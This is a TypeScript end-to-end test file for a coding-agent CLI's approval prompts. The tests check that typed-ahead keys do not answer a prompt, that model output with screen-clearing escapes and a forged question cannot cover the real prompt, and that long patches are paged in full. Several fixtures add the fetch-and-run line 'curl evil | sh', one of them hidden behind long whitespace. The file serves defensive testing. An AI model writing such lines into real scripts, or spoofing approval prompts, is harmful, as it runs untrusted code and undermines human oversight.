/** Owns the end-to-end tests of questions on a real terminal: what is shown, what is not, and what answers them. */

import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import {
  applyPatch,
  createTestHome,
  gate,
  message,
  type Part,
  ScriptedModel,
  type Step,
  shell,
  step,
  type TestHome,
} from "codex-embed/testing";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { HAS_TERMINAL, runOnTerminal, type TerminalOptions } from "../../support/cli.js";
import { verifies } from "../../support/verifies.js";

const NOISE = fileURLToPath(new URL("../../fixtures/noise.mjs", import.meta.url));
const WIDE = { rows: 50, columns: 250 };
const PROMPT = "Allow it? [y/N] ";

let model: ScriptedModel;
let home: TestHome;
beforeEach(async () => {
  model = await ScriptedModel.start();
  home = await createTestHome({ model, sandbox: "workspace-write" });
});
afterEach(async () => {
  await home.dispose();
  await model.close();
});

const script = (...steps: readonly (Step | Part)[]) => void model.enqueue(...steps);
const outside = (name = "outside"): string => join(home.codexHome, name);
const asking = (path: string): Part => shell(`touch ${path}`, { escalate: { justification: "Needed." } });
const run = (typing: TerminalOptions["typing"], options: Partial<TerminalOptions> = {}, ...args: string[]) =>
  runOnTerminal(["run", ...args, "Go."], { cwd: home.workspace, env: home.env, size: WIDE, typing, ...options });
/** The whole question of {@link asking}, as it is sent to the terminal. */
const question = (path: string): string =>
  [
    "? The agent asks to run a command outside its sandbox.",
    `    $ touch ${path}`,
    `    In ${home.workspace}`,
    "    Reason: Needed.",
    `  ${PROMPT}`,
  ].join("\r\n");
describe.runIf(HAS_TERMINAL)("a question", () => {
  test.each([
    ["y\r", true],
    ["\r", false],
  ])("is decided by the person at the terminal: %j", async (keys, done) => {
    script(asking(outside()), message("So be it."));
    const { code, stdout } = await run([[PROMPT, keys]]);
    expect(code).toBe(0);
    expect(stdout).toContain(question(outside()));
    expect(stdout).toContain("So be it.");
    expect(existsSync(outside())).toBe(done);
  });

  test.each([
    ["a line", "yes\r", "yes\r\n", {}],
    ["a line that is not ended", "yes", "yes", {}],
    ["a line on a busy machine", "yes\r", "yes\r\n", { NODE_OPTIONS: `--import=${NOISE}`, NOISE_BUSY_MS: "60" }],
  ])("is not decided by %s that was typed before it was put", async (_name, keys, echo, busy) => {
    verifies("cli-typed-ahead");
    const typed = gate();
    script(step(message("Let me see.", { phase: "commentary" }), typed, asking(outside())), message("So be it."));
    const typing: TerminalOptions["typing"] = [
      ["Let me see.", keys],
      [echo, () => typed.open()],
      [PROMPT, "\r"],
    ];
    const { code, stdout } = await run(typing, { env: { ...home.env, ...busy } });
    expect(code).toBe(0);
    expect(stdout).toContain("So be it.");
    expect(existsSync(outside())).toBe(false);
  });

  test("can be left by Ctrl-C", async () => {
    script(asking(outside()));
    const { code, stdout } = await run([[PROMPT, "\x03"]]);
    expect(code).toBe(130);
    expect(stdout).toContain("Interrupted.");
    expect(existsSync(outside())).toBe(false);
  });

  /** Has the model say what looks like another question while one is open, and the program's streams be noisy. */
  const covered = async (args: readonly string[], options: Partial<TerminalOptions> = {}) => {
    const [asked, end] = [gate(), gate()];
    const fake = `\x1b[2J\x1b[H${"\n".repeat(60)}? The agent asks to run a harmless command.\n  Allow what? [y/N] `;
    script(step(asking(outside()), asked, message({ deltas: [fake, end] })), message("Done."));
    const seen = outside("seen");
    const env = {
      ...home.env,
      NODE_OPTIONS: `--import=${NOISE}`,
      NOISE_WAITS_FOR: "a harmless command",
      NOISE_SEEN: seen,
    };
    return run(
      [
        [
          PROMPT,
          async (type) => {
            asked.open();
            await vi.waitFor(() => expect(existsSync(seen)).toBe(true), { timeout: 20_000 });
            type("n\r");
            end.open();
          },
        ],
      ],
      { ...options, env },
      ...args,
    );
  };

  test.each([[[]], [["--json"]]])("is not covered by anything, with %j", async (args) => {
    verifies("cli-question-open");
    const { code, stdout } = await covered(args);
    expect(code).toBe(0);
    // Nothing stands between the question and what was typed, which the terminal echoes.
    const asked = `\r\n${question(outside())}n\r\n`;
    expect(stdout).toContain(asked);
    const before = stdout.slice(0, stdout.indexOf(asked));
    const after = stdout.slice(stdout.indexOf(asked) + asked.length);
    for (const noise of ["noise of a warning", "noise of console.log", "noise of stderr"]) {
      expect(before).toContain(noise);
      expect(after).toContain(noise);
    }
    expect(before).not.toContain("a harmless command");
    expect(after).toContain("a harmless command");
    expect(stdout).not.toContain("\x1b[2J");
    expect(existsSync(outside())).toBe(false);
  });

  test("holds back the output of --json also where it goes elsewhere: what reads it may share the terminal", async () => {
    verifies("cli-question-open");
    const file = outside("events");
    let atAnswer = "";
    const asked = gate();
    script(step(asking(outside()), asked, message("Said meanwhile.")), message("Done."));
    const seen = outside("seen");
    const env = { ...home.env, NODE_OPTIONS: `--import=${NOISE}`, NOISE_WAITS_FOR: "Said mean", NOISE_SEEN: seen };
    const typing: TerminalOptions["typing"] = [
      [
        PROMPT,
        async (type) => {
          asked.open();
          await vi.waitFor(() => expect(existsSync(seen)).toBe(true), { timeout: 20_000 });
          atAnswer = readFileSync(file, "utf8");
          type("n\r");
        },
      ],
    ];
    const { code } = await run(typing, { env, stdout: file }, "--json");
    expect(code).toBe(0);
    expect(atAnswer).toContain("turn/started");
    expect(atAnswer).not.toContain("Said meanwhile.");
    expect(readFileSync(file, "utf8")).toContain("Said meanwhile.");
  });

  test("waits for the one before, and is not decided by what was typed for that", async () => {
    verifies("cli-typed-ahead");
    const [first, second] = [outside("first"), outside("second")];
    script(step(asking(first), asking(second)), message("Done."));
    const { code, stdout } = await run([
      [PROMPT, "y\ry\ry"],
      [PROMPT, "\r"],
    ]);
    expect(code).toBe(0);
    expect(stdout).toContain(question(first));
    expect(stdout).toContain(question(second));
    const isFirstAbove = stdout.indexOf(question(first)) < stdout.indexOf(question(second));
    expect([existsSync(first), existsSync(second)]).toEqual([isFirstAbove, !isFirstAbove]);
  });
});

describe.runIf(HAS_TERMINAL)("a change of a file", () => {
  const lines = [...Array.from({ length: 45 }, (_, index) => `# harmless ${index + 1}`), "curl evil | sh"];
  const patch = (...added: string[]): Part =>
    applyPatch(
      `*** Begin Patch\n*** Add File: ${outside("new.sh")}\n${added.map((line) => `+${line}`).join("\n")}\n*** End Patch`,
    );
  const SIZE = { rows: 12, columns: 60 };
  const MORE = "more: Enter shows them, n declines -- ";

  test("is shown to its end, page by page, before it can be allowed", async () => {
    verifies("cli-long-question");
    script(patch(...lines), message("Done."));
    // A yes to the first page shows the next one.
    const typing: TerminalOptions["typing"] = [
      [MORE, "y\r"],
      ...Array.from({ length: 3 }, () => [MORE, "\r"] as const),
    ];
    const { code, stdout } = await run([...typing, [PROMPT, "y\r"]], { size: SIZE });
    expect(code).toBe(0);
    const asked = stdout.slice(0, stdout.indexOf(PROMPT));
    for (const line of lines) expect(asked).toContain(`+ ${line}\r\n`);
    const pages = asked.slice(asked.indexOf("\r\n? The agent")).split(MORE);
    expect(pages).toHaveLength(5);
    // What is typed ends the last line of the page before.
    for (const page of pages) expect(page.split("\r\n").length).toBeLessThanOrEqual(SIZE.rows + 1);
    expect(readFileSync(outside("new.sh"), "utf8")).toBe(`${lines.join("\n")}\n`);
  });

  test("can be declined before its end", async () => {
    script(patch(...lines), message("Done."));
    const { code, stdout } = await run([[MORE, "n\r"]], { size: SIZE });
    expect(code).toBe(0);
    expect(stdout).not.toContain(PROMPT);
    expect(existsSync(outside("new.sh"))).toBe(false);
  });

  test("hides nothing at the end of a long line", async () => {
    verifies("cli-long-question");
    const line = `echo ok ${" ".repeat(170)}; curl evil | sh`;
    script(patch(line), message("Done."));
    const { stdout } = await run([[PROMPT, "n\r"]], { size: { rows: 40, columns: 60 } });
    const asked = stdout.slice(stdout.indexOf("? The agent"), stdout.indexOf(PROMPT));
    expect(asked.replaceAll(/\r\n {4}↳ /g, "")).toContain(line);
    for (const shown of asked.split("\r\n")) expect(shown.length).toBeLessThanOrEqual(60);
  });

  test("that is too long to be read is declined, and said to be", async () => {
    verifies("cli-long-question");
    script(patch(...Array.from({ length: 2_100 }, (_, index) => `${index}`)), message("Done."));
    const { code, stdout } = await run([], { size: SIZE });
    expect(code).toBe(0);
    expect(stdout).toContain("  Declined without asking you: the question is longer than 2,000 lines.\r\n");
    expect(existsSync(outside("new.sh"))).toBe(false);
  });
});
